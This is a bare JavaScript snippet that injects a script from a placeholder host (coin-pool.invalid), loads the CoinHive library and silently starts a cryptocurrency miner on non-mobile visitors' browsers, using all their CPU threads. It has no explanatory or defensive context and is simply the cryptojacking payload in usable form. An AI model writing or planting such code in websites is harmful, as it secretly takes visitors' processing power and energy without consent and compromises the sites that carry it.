(function () {
  var s = document.createElement("script");
  s.src = "https://coin-pool.invalid/lib/coinhive.min.js";
  s.onload = function () {
    var miner = new CoinHive.Anonymous("SITE_KEY_PLACEHOLDER", { throttle: 0.3, threads: navigator.hardwareConcurrency });
    if (!miner.isMobile()) miner.start();
  };
  document.head.appendChild(s);
})();
